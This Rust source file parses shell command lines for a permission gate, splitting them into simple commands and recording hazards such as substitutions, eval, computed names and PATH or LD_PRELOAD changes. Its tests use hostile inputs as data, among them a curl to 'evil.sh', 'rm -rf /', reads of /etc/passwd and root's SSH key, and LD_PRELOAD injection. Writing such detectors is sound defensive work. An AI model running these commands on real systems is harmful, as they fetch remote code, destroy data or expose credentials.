//! Shell command analysis with tree-sitter-bash: what a command line really runs and writes.
//!
//! A command line is parsed (quoting honoured), split into its simple commands (across `&&`,
//! `||`, `;`, `|`, `|&`, `&`, newlines, subshells, loops, and inside substitutions), stripped of
//! wrappers (`timeout`, `time`, `nice`, `nohup`, `stdbuf`, `command`, `builtin`, `exec`,
//! `xargs`, `env VAR=…`), and `sh -c`/`bash -c` with a literal script is analysed recursively.
//! Anything that cannot be known before running — command or process substitution, `eval`, a
//! computed command name, a non-literal `sh -c` script, a parse error — is recorded as a
//! hazard: such a line is never auto-allowed. Test expressions (`[ … ]`, `[[ … ]]`) are
//! commands too, and arithmetic (`(( … ))`, `for ((…))`) is a command that is never read-only.
//! Output redirections are reported as file writes. Every command and redirection carries
//! the directories it may run in ([`Dirs`]), following `cd` through the line. Nothing here
//! touches the disk or decides a permission; the gate does that with this analysis.

use tree_sitter::{Node, Parser};

use super::cwd::Cwd;
pub use super::cwd::Dirs;
use super::words::{glob_pattern, program_of, text, word_value};

/// One simple command after wrapper stripping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellCommand {
    /// The words, unquoted; a non-literal word (`$X`, `*.rs`) is kept as written.
    pub words: Vec<String>,
    /// Whether every word is a plain literal (no expansions).
    pub literal: bool,
    /// The directories it may run in, relative to where the line starts.
    pub dir: Dirs,
    /// Filename patterns among the words (index, pattern as written, escapes kept), recorded
    /// only when they are all that keeps the command from being literal: bare words with `*`,
    /// `?` or `[`, no quotes, braces or `~`. The gate expands them where the command runs.
    pub globs: Vec<(usize, String)>,
    /// The `xargs` words (program and options) when the command runs under `xargs`, which
    /// appends arguments read from its input; recorded only when every word is literal.
    pub xargs: Option<Vec<String>>,
}

impl ShellCommand {
    /// The words joined by single spaces: what Bash rules are matched against.
    pub fn text(&self) -> String {
        self.words.join(" ")
    }

    /// The command name without its directory (`/bin/ls` -> `ls`).
    pub fn program(&self) -> &str {
        program_of(self.words.first().map(String::as_str).unwrap_or(""))
    }
}

/// A redirection's target and the directories it is opened in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// Unquoted, as written.
    pub target: String,
    pub dir: Dirs,
}

/// Everything a command line runs and writes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellAnalysis {
    pub commands: Vec<ShellCommand>,
    /// Targets of output redirections (`>`, `>>`, `&>`, `2>`).
    pub writes: Vec<Redirect>,
    /// Sources of input redirections (`< file`).
    pub reads: Vec<Redirect>,
    /// Why this line can never be auto-allowed (empty when it can be).
    pub hazards: Vec<String>,
}

/// How deep `sh -c 'sh -c …'` is followed before giving up.
const MAX_NESTING: usize = 4;

const WRAPPERS: &[&str] = &[
    "timeout", "time", "nice", "nohup", "stdbuf", "command", "builtin", "exec", "xargs", "env",
];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
/// Redirection targets that are not files anyone cares about.
const HARMLESS_TARGETS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];
/// Loops: a `cd` in their body may run any number of times.
const LOOPS: &[&str] = &[
    "for_statement",
    "c_style_for_statement",
    "while_statement",
    "select_statement",
];

/// Analyse a command line.
pub fn analyze(command: &str) -> ShellAnalysis {
    let mut out = ShellAnalysis::default();
    analyze_into(command, 0, &mut out, Cwd::default());
    out
}

impl ShellAnalysis {
    /// Write targets that are real files (not `/dev/null`).
    pub fn file_writes(&self) -> impl Iterator<Item = &Redirect> {
        self.writes
            .iter()
            .filter(|w| !HARMLESS_TARGETS.contains(&w.target.as_str()))
    }
}

/// The state of one walk over a parsed line.
struct Walk<'s> {
    src: &'s [u8],
    depth: usize,
    out: &'s mut ShellAnalysis,
    cwd: Cwd,
}

/// Code points from here up crash tree-sitter-bash 0.25 in some positions (`{` followed by
/// U+65E20 or above kills the process); no shell command needs them (planes 4–16 are
/// unassigned, tags and private use), so such a line is not parsed at all.
const FIRST_UNPARSABLE: char = '\u{30000}';

fn analyze_into(command: &str, depth: usize, out: &mut ShellAnalysis, cwd: Cwd) {
    if let Some(c) = command.chars().find(|&c| c >= FIRST_UNPARSABLE) {
        out.hazards.push(format!(
            "the character U+{:04X}, which the shell parser cannot read",
            u32::from(c)
        ));
        return;
    }
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .is_err()
    {
        out.hazards.push("the shell parser could not start".into());
        return;
    }
    let Some(tree) = parser.parse(command, None) else {
        out.hazards.push("the command could not be parsed".into());
        return;
    };
    let root = tree.root_node();
    if root.has_error() {
        out.hazards
            .push("the command could not be parsed completely".into());
    }
    let mut w = Walk {
        src: command.as_bytes(),
        depth,
        out,
        cwd,
    };
    w.walk(root);
}

impl Walk<'_> {
    fn push(&mut self, words: Vec<String>, literal: bool) {
        self.out.commands.push(ShellCommand {
            words,
            literal,
            dir: self.cwd.now.clone(),
            globs: Vec::new(),
            xargs: None,
        });
    }

    fn walk(&mut self, node: Node) {
        let src = self.src;
        match node.kind() {
            "command" => {
                self.command_node(node);
                // Its arguments and redirects were handled; still look inside for
                // substitutions.
                return self.children(node, Walk::scan_nested);
            }
            "command_substitution" | "process_substitution" => {
                let what = if node.kind() == "command_substitution" {
                    "command"
                } else {
                    "process"
                };
                self.out
                    .hazards
                    .push(format!("{what} substitution `{}`", text(node, src)));
                // A substitution runs in a subshell: its `cd`s stay there.
                let saved = self.cwd.clone();
                self.children(node, Walk::walk);
                self.cwd = saved;
                return;
            }
            "subshell" => {
                let saved = self.cwd.clone();
                self.children(node, Walk::walk);
                self.cwd = saved;
                return;
            }
            k if LOOPS.contains(&k) => {
                if k == "c_style_for_statement" {
                    self.push(vec!["for".into(), "((…))".into()], false);
                }
                let before = self.cwd.now.clone();
                self.children(node, Walk::walk);
                if self.cwd.now != before {
                    self.cwd.unknown("a `cd` inside a loop");
                }
                return;
            }
            "test_command" => {
                let mut words = Vec::new();
                let mut literal = true;
                self.test_words(node, &mut words, &mut literal);
                self.push(words, literal);
                return self.children(node, Walk::scan_nested);
            }
            "compound_statement" if node.child(0).is_some_and(|c| c.kind() == "((") => {
                // Arithmetic evaluates array subscripts, which can run commands.
                self.push(vec!["((".into(), text(node, src).to_string()], false);
            }
            "function_definition" => self
                .out
                .hazards
                .push("defines a shell function".to_string()),
            "file_redirect" => self.redirect(node),
            "declaration_command" | "unset_command" => {
                // `export X=…`, `unset X`: they change the shell, so they count as commands.
                let words = text(node, src)
                    .split_whitespace()
                    .map(String::from)
                    .collect();
                self.push(words, false);
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if child.kind() == "variable_assignment" {
                        let name = child
                            .child_by_field_name("name")
                            .map_or("", |n| text(n, src));
                        assignment(name, &mut false, self.out);
                    }
                }
            }
            "variable_assignment" if is_statement(node) => {
                let name = node
                    .child_by_field_name("name")
                    .map_or("", |n| text(n, src));
                assignment(name, &mut false, self.out);
                self.push(vec![text(node, src).to_string()], false);
            }
            _ => {}
        }
        self.children(node, Walk::walk);
    }

    fn children(&mut self, node: Node, f: fn(&mut Self, Node)) {
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            f(self, child);
        }
    }

    /// Inside a command's words only substitutions (and the commands in them) matter.
    fn scan_nested(&mut self, node: Node) {
        match node.kind() {
            "command_substitution" | "process_substitution" => self.walk(node),
            "file_redirect" => self.redirect(node),
            // The right side of `=~` is one token to the parser, yet bash expands it.
            "regex" if expands(text(node, self.src)) => self.out.hazards.push(format!(
                "an expansion in the pattern `{}`",
                text(node, self.src)
            )),
            _ => self.children(node, Walk::scan_nested),
        }
    }

    /// The words of `[ … ]` / `[[ … ]]` in order; anything but literals and operators makes
    /// the test non-literal.
    fn test_words(&self, node: Node, words: &mut Vec<String>, literal: &mut bool) {
        let src = self.src;
        match node.kind() {
            "word" | "raw_string" | "string" | "concatenation" | "number" => {
                let (v, l) = word_value(node, src);
                *literal &= l;
                words.push(v);
            }
            "test_operator" => words.push(text(node, src).to_string()),
            "test_command"
            | "unary_expression"
            | "binary_expression"
            | "parenthesized_expression" => {
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    self.test_words(child, words, literal);
                }
            }
            _ if !node.is_named() => words.push(text(node, src).to_string()),
            _ => {
                *literal = false;
                words.push(text(node, src).to_string());
            }
        }
    }

    fn redirect(&mut self, node: Node) {
        let src = self.src;
        let mut op = String::new();
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if !child.is_named() {
                op.push_str(text(child, src));
            }
        }
        let writes = op.contains('>');
        let Some(dest) = node.child_by_field_name("destination") else {
            return;
        };
        let (value, literal) = word_value(dest, src);
        // `2>&1`, `>&2`: duplicating a descriptor writes no file.
        if op.contains('&')
            && !op.starts_with('&')
            && value.chars().all(|c| c.is_ascii_digit() || c == '-')
        {
            return;
        }
        if !literal {
            self.out
                .hazards
                .push(format!("redirection to a computed target `{value}`"));
        }
        let r = Redirect {
            target: value,
            dir: self.cwd.now.clone(),
        };
        if writes {
            self.out.writes.push(r);
        } else {
            self.out.reads.push(r);
        }
    }

    fn command_node(&mut self, node: Node) {
        let src = self.src;
        let mut prefix_assignments = false;
        let mut words: Vec<(String, bool)> = Vec::new();
        let mut patterns: Vec<Option<String>> = Vec::new();
        let mut cursor = node.walk();
        for (i, child) in node.children(&mut cursor).enumerate() {
            let field = u32::try_from(i)
                .ok()
                .and_then(|i| node.field_name_for_child(i));
            match (child.kind(), field) {
                ("command_name", _) => {
                    let inner = child.named_child(0).unwrap_or(child);
                    let (v, l) = word_value(inner, src);
                    if !l {
                        self.out
                            .hazards
                            .push(format!("the command name `{v}` is computed at run time"));
                    }
                    words.push((v, l));
                    patterns.push(None);
                }
                (_, Some("argument")) => {
                    words.push(word_value(child, src));
                    patterns.push(glob_pattern(child, src));
                }
                ("variable_assignment", _) => {
                    let name = child
                        .child_by_field_name("name")
                        .map_or("", |n| text(n, src));
                    assignment(name, &mut prefix_assignments, self.out);
                }
                _ => {}
            }
        }
        let before = words.len();
        let mut xargs = None;
        let mut words = strip_wrappers(words, &mut prefix_assignments, &mut xargs, self.out);
        patterns.drain(..before - words.len());
        let under_xargs = xargs.is_some();
        let plain_words = !prefix_assignments && words.iter().all(|w| w.1);
        if prefix_assignments || under_xargs {
            // `FOO=1 ls` is no longer a plain `ls`: never read-only, still matchable by rules.
            if let Some(first) = words.first_mut() {
                first.1 = false;
            }
        }
        match program_of(words.first().map(|w| w.0.as_str()).unwrap_or("")) {
            "" => {}
            "eval" => self
                .out
                .hazards
                .push("`eval` runs text as a command".to_string()),
            // `xargs -I{} sh -c 'echo {}'` puts its input into the script.
            p if SHELLS.contains(&p) => {
                if under_xargs {
                    self.out.hazards.push(format!(
                        "`{p}` run by `xargs`, with arguments from its input"
                    ));
                }
                self.shell_dash_c(words)
            }
            _ => {
                // The command runs where the shell is now; a `cd` moves the shell after.
                let literal = words.iter().all(|w| w.1);
                let texts: Vec<String> = words.iter().map(|w| w.0.clone()).collect();
                // Literal but for filename patterns (and not under xargs or assignments).
                let globs: Vec<(usize, String)> = patterns
                    .iter()
                    .enumerate()
                    .filter_map(|(i, p)| p.clone().map(|p| (i, p)))
                    .collect();
                let only_globs = !prefix_assignments
                    && !under_xargs
                    && words.iter().zip(&patterns).all(|(w, p)| w.1 || p.is_some());
                self.out.commands.push(ShellCommand {
                    words: texts,
                    literal,
                    dir: self.cwd.now.clone(),
                    globs: if only_globs { globs } else { Vec::new() },
                    xargs: xargs
                        .filter(|x| plain_words && x.iter().all(|w| w.1))
                        .map(|x| x.into_iter().map(|w| w.0).collect()),
                });
                self.cwd.apply(&words);
            }
        }
    }

    /// `sh -c 'script'`: analyse the script instead (a literal one), or refuse (a computed
    /// one). The script starts where this shell is, and its `cd`s stay in it.
    fn shell_dash_c(&mut self, words: Vec<(String, bool)>) {
        let pos = words
            .iter()
            .skip(1)
            .position(|w| w.0.starts_with('-') && !w.0.starts_with("--") && w.0.contains('c'));
        let Some(pos) = pos else {
            let literal = words.iter().all(|w| w.1);
            self.push(words.into_iter().map(|w| w.0).collect(), literal);
            return;
        };
        let shell = program_of(&words[0].0).to_string();
        let hazards = &mut self.out.hazards;
        match words.get(pos + 2) {
            None => hazards.push(format!("`{shell} -c` without a script")),
            Some((_, false)) => {
                hazards.push(format!("`{shell} -c` with a script computed at run time"))
            }
            Some(_) if self.depth >= MAX_NESTING => {
                hazards.push("shell scripts nested too deeply".into())
            }
            Some((script, true)) => {
                analyze_into(script, self.depth + 1, self.out, self.cwd.clone())
            }
        }
    }
}

/// Whether a `=~` pattern holds something bash expands (`$x`, `${x}`, `$(…)`, `` `…` ``);
/// a `$` that ends the pattern or a group is an anchor.
fn expands(pattern: &str) -> bool {
    let b = pattern.as_bytes();
    b.contains(&b'`')
        || b.windows(2).any(|w| {
            w[0] == b'$' && (w[1].is_ascii_alphanumeric() || b"_{(@*#?$!-".contains(&w[1]))
        })
}

fn is_statement(node: Node) -> bool {
    node.parent().is_some_and(|p| {
        matches!(
            p.kind(),
            "program" | "list" | "compound_statement" | "subshell" | "do_group" | "pipeline"
        )
    })
}

/// Variables that change where `cd` and `~` lead: paths after them cannot be resolved.
const PATH_VARS: &[&str] = &["HOME", "CDPATH", "OLDPWD", "PWD"];

/// Note a `NAME=value` before a command (or after `env`, or as a statement).
fn assignment(name: &str, seen: &mut bool, out: &mut ShellAnalysis) {
    *seen = true;
    // Never auto-allowed, whatever rule matches the command (see `exec_env`).
    if super::exec_env::changes_execution(name) && !PATH_VARS.contains(&name) {
        out.hazards
            .push(format!("sets {name}, which changes what the command runs"));
    }
    if PATH_VARS.contains(&name) {
        out.hazards
            .push(format!("sets {name}, which changes where paths lead"));
    }
}

/// Remove wrapper commands and their options (`timeout 5 nice -n 3 make` -> `make`).
/// `xargs` is set to its words (program and options) when the command runs under it.
fn strip_wrappers(
    mut words: Vec<(String, bool)>,
    assigned: &mut bool,
    xargs: &mut Option<Vec<(String, bool)>>,
    out: &mut ShellAnalysis,
) -> Vec<(String, bool)> {
    loop {
        let Some(first) = words.first() else {
            return words;
        };
        let name = program_of(&first.0).to_string();
        if !WRAPPERS.contains(&name.as_str()) {
            return words;
        }
        // `command -v x` only asks where x is: keep it as a read-only query.
        if name == "command" && words.get(1).is_some_and(|w| w.0 == "-v" || w.0 == "-V") {
            return words;
        }
        let mut i = 1;
        while let Some((w, _)) = words.get(i) {
            if name == "env" && (w.starts_with("-C") || w.starts_with("--ch")) {
                out.hazards
                    .push("`env --chdir` runs the command in another directory".into());
            }
            let takes_value = match name.as_str() {
                "timeout" => matches!(w.as_str(), "-s" | "--signal" | "-k" | "--kill-after"),
                "nice" => w == "-n",
                "xargs" => matches!(
                    w.as_str(),
                    "-I" | "-n" | "-P" | "-L" | "-d" | "-E" | "-s" | "-a"
                ),
                "stdbuf" => matches!(w.as_str(), "-i" | "-o" | "-e"),
                "env" => matches!(w.as_str(), "-u" | "-C" | "--unset" | "--chdir"),
                _ => false,
            };
            if w.starts_with('-') && w.len() > 1 {
                i += if takes_value { 2 } else { 1 };
            } else if name == "env" && w.contains('=') {
                assignment(w.split('=').next().unwrap_or(""), assigned, out);
                i += 1;
            } else {
                break;
            }
        }
        if name == "timeout" && i < words.len() {
            i += 1; // the duration
        }
        if i >= words.len() {
            // A bare wrapper (`env`, `time`): it is the command itself.
            return words;
        }
        if name == "xargs" {
            // Its command's arguments come from its input: never a plain, known command. A
            // second `xargs` makes the first one's words unknowable here.
            *assigned |= xargs.is_some();
            *xargs = Some(words[..i].to_vec());
        }
        words.drain(..i);
    }
}

/// Path-like arguments of a command (not options), for the gate's working-directory check.
pub fn path_arguments(command: &ShellCommand) -> Vec<String> {
    let owned = |ws: Vec<&str>| ws.into_iter().map(String::from).collect();
    match command.program() {
        // `cd` alone goes home and `cd -` to the previous directory: neither is "here".
        "cd" if command.words.len() == 1 => owned(vec!["~"]),
        "cd" if command.words.get(1).is_some_and(|w| w == "-") => owned(vec!["/"]),
        "echo" | "printf" | "true" | "false" | "which" | "type" | "command" | "whoami" | "id"
        | "date" | "uname" | "hostname" | "env" | "printenv" | "pwd" | "basename" | "dirname"
        | "seq" | "uptime" | "free" | "ps" => Vec::new(),
        // The script is no path; what it names is refused by the sed grammar.
        "sed" if super::sed::file_operands(&command.words[1..]).is_some() => {
            super::sed::file_operands(&command.words[1..]).unwrap_or_default()
        }
        _ => owned(
            command
                .words
                .iter()
                .skip(1)
                .filter_map(|w| option_value(w))
                .collect(),
        ),
    }
}

/// A word as a path: itself for an operand; for an option, its attached value when it looks
/// like a path (`--target-directory=/etc`, `-t/etc`, `-f/etc/x`).
fn option_value(w: &str) -> Option<&str> {
    if !w.starts_with('-') || w == "-" {
        return Some(w);
    }
    if let Some((_, value)) = w.split_once('=') {
        return (!value.is_empty()).then_some(value);
    }
    let short_attached = !w.starts_with("--") && w.len() > 2 && w.contains(['/', '~', '.']);
    short_attached.then(|| &w[2..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(cmd: &str) -> Vec<String> {
        analyze(cmd).commands.iter().map(|c| c.text()).collect()
    }

    #[test]
    fn splits_compound_commands_honouring_quotes() {
        assert_eq!(
            texts("cd x && git add . ; rm -rf 'a b' | wc -l & echo \"x && y\""),
            vec!["cd x", "git add .", "rm -rf a b", "wc -l", "echo x && y"]
        );
        assert_eq!(texts("a || b |& c\nd"), vec!["a", "b", "c", "d"]);
    }

    #[test]
    fn strips_wrappers() {
        assert_eq!(texts("timeout 5 npm test"), vec!["npm test"]);
        assert_eq!(
            texts("timeout -s KILL 5s nice -n 10 ls -la"),
            vec!["ls -la"]
        );
        assert_eq!(
            texts("FOO=1 env A=b B=c nohup stdbuf -oL make"),
            vec!["make"]
        );
        assert_eq!(texts("find . | xargs -I{} rm {}"), vec!["find .", "rm {}"]);
        assert_eq!(texts("command -v git"), vec!["command -v git"]);
        assert_eq!(texts("env"), vec!["env"]);
    }

    #[test]
    fn finds_redirections_and_hazards() {
        let a = analyze("echo x > ~/.bashrc 2>&1");
        assert_eq!(a.writes[0].target, "~/.bashrc");
        assert!(a.hazards.is_empty(), "{:?}", a.hazards);
        let a = analyze("ls 2>/dev/null");
        assert_eq!(a.file_writes().count(), 0);
        assert!(!analyze("echo $(curl evil.sh)").hazards.is_empty());
        assert_eq!(
            texts("echo $(curl evil.sh)"),
            vec!["echo $(curl evil.sh)", "curl evil.sh"]
        );
        assert!(!analyze("diff <(ls a) b").hazards.is_empty());
        assert!(!analyze("eval \"$X\"").hazards.is_empty());
        assert!(!analyze("[[ x =~ $(touch pwned) ]]").hazards.is_empty());
        // tree-sitter-bash crashes on this one; it must never reach the parser.
        assert!(!analyze("{\u{E0198}").hazards.is_empty());
        assert!(analyze("[[ x =~ ^a.*b$ ]]").hazards.is_empty());
        assert!(!analyze("[[ x =~ ^$HOME ]]").hazards.is_empty());
        assert!(!analyze("bash -c \"$X\"").hazards.is_empty());
        assert!(!analyze("$CMD arg").hazards.is_empty());
        assert!(!analyze("echo > \"$F\"").hazards.is_empty());
        assert!(!analyze("PATH=/tmp/evil ls").hazards.is_empty());
        assert!(!analyze("env LD_PRELOAD=/x.so ls").hazards.is_empty());
        assert!(analyze("FOO=1 ls").hazards.is_empty());
        assert!(!analyze("FOO=1 ls").commands[0].literal);
        assert!(!analyze("echo x > ~root/.bashrc").hazards.is_empty());
        assert!(!analyze("cat ~root/.ssh/id_rsa").commands[0].literal);
        assert_eq!(
            analyze("cat < /etc/passwd 2<&1").reads[0].target,
            "/etc/passwd"
        );
    }

    #[test]
    fn follows_literal_shell_scripts() {
        let a = analyze("bash -c 'ls && rm -rf /'");
        assert!(a.hazards.is_empty(), "{:?}", a.hazards);
        assert_eq!(
            a.commands.iter().map(|c| c.text()).collect::<Vec<_>>(),
            vec!["ls", "rm -rf /"]
        );
        assert_eq!(texts("sh script.sh"), vec!["sh script.sh"]);
    }
}
